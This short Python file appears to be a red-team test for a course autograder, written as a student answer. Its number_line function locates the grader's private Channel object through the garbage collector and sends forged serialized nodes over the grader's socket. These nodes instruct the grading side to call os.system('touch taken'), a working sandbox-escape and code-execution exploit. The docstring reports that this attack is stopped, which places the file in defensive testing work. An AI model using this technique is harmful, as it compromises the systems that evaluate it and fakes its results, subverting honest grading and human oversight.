"""Name, in forged nodes, what the other side should look up and call.

Stock nbgrader: has no channel. Here: stopped, 10 beside honest answers.
"""

import gc
import json
import struct

from course.grader.box.channel import Channel


def number_line(exponent_bits, fraction_bits, specials):
    (channel,) = [x for x in gc.get_objects() if type(x) is Channel]
    call = ["D", "os", "system", {"command": ["s", "touch taken"]}]
    value = ["t", [["s", "value"], call, ["s", ""], ["n"]]]
    text = json.dumps({"regions": [], "value": value}).encode()
    channel.socket.send(struct.pack("!IQ", len(text), 0) + text)
